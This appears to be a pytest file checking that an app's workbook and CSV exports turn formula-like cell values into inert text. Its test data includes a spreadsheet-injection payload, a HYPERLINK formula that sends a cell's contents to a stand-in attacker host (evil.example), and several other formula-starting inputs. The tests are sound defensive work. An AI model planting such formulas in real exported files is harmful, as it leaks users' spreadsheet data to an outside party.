"""Every workbook and CSV comes out of one writer (handlers/exports.py): what was typed as a
formula is inert text in a text cell, and a character a worksheet cannot hold makes nobody's
export fail (issue 16 item 2, and the export half of item 3)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from handlers import approvals, exports
from models import Person
from tests.helpers.pages import qr_login

pytestmark = pytest.mark.usefixtures("queues")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("张三", "张三"),
        ("铃\x07声", "铃\ufffd声"),
        (None, ""),
        (15, "15"),
    ],
)
def test_a_cell_is_inert_text(value, shown):
    assert exports.cell_text(value) == shown


def test_every_workbook_cell_is_a_text_cell():
    sheet = load_workbook(io.BytesIO(exports.workbook("表", ["甲", "乙"], [[FORMULA, 3]]))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    assert sheet["A2"].value == "'" + FORMULA and sheet["B2"].value == "3"


def test_a_member_named_as_a_formula_exports_as_text(app, emulator, hospital, token, db_session):
    client = app.test_client()
    created = client.post(
        "/api/v1/members",
        headers=token(__import__("models").Role.committee_office),
        json={"wecom_userid": "formula1", "name": FORMULA, "branch_id": str(hospital["cardio"].id)},
    )
    assert created.status_code == 201, created.get_json()
    # A control character stored before the input boundary refused them: the export still works.
    nurse = db_session.scalar(select(Person).where(Person.wecom_userid == "nurse01"))
    nurse.position = "护\x07师"
    db_session.commit()
    qr_login(client, "office01")
    exported = client.get("/admin/members/export")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert "'" + FORMULA in names
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_an_approval_subject_and_the_audit_csv_export_as_text(app, emulator, hospital, db_session):
    nurse = hospital["nurse"].person
    approvals.submit(db_session, nurse, "general", raw_form={"subject": "@SUM(1+1)*cmd", "content": "周五"})
    db_session.commit()
    client = app.test_client()
    qr_login(client, "office01")
    exported = client.get("/admin/approvals/export")
    rows = list(load_workbook(io.BytesIO(exported.data)).active.values)
    assert "'@SUM(1+1)*cmd" in [row[1] for row in rows]

    from models import Role, RoleGrant

    auditor = db_session.scalar(select(Person).where(Person.wecom_userid == "office01"))
    db_session.add(RoleGrant(person_id=auditor.id, role=Role.auditor, org_id=None))
    db_session.commit()
    client = app.test_client()
    qr_login(client, "office01")
    text = client.get("/admin/audit/export").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert cells and not any(cell.startswith(exports.FORMULA_STARTS) for cell in cells)
